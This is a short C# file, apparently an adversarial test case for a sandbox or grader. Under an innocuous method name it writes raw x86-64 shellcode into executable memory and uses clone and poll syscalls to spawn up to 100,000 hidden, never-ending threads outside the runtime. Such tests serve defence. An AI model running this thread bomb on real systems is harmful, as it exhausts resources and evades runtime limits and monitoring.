// Attack: makes threads past the runtime, all on one stack, as many as the kernel has.
// Expect: k at τ = 0 % should be 1 || started more than 64 threads || used more than 0.5 s of CPU time
using System.Runtime.InteropServices;

public sealed partial class Attack
{
    [DllImport("libc")]
    private static extern nint mmap(nint at, nint length, int protection, int flags, int descriptor, nint offset);

    private delegate long Clone(long flags, nint stack, nint parent, nint child);

    public double IdlePageCost(int taxPercent)
    {
        // clone; in the parent return, in the child wait for nothing with poll, for ever.
        byte[] code =
        [
            0xB8, 0x38, 0x00, 0x00, 0x00, 0x0F, 0x05, 0x85, 0xC0, 0x74, 0x01, 0xC3,
            0x31, 0xFF, 0x31, 0xF6, 0xBA, 0xFF, 0xFF, 0xFF, 0xFF, 0xB8, 0x07, 0x00, 0x00, 0x00, 0x0F, 0x05, 0xEB, 0xEE,
        ];
        nint page = mmap(0, 4096, 7, 0x22, -1, 0);
        nint stack = mmap(0, 1 << 20, 3, 0x22, -1, 0);
        Marshal.Copy(code, 0, page, code.Length);
        var clone = Marshal.GetDelegateForFunctionPointer<Clone>(page);
        for (int i = 0; i < 100_000; i++)
            clone(0x00010F00, stack + (1 << 20) - 64, 0, 0);
        return 0;
    }
}
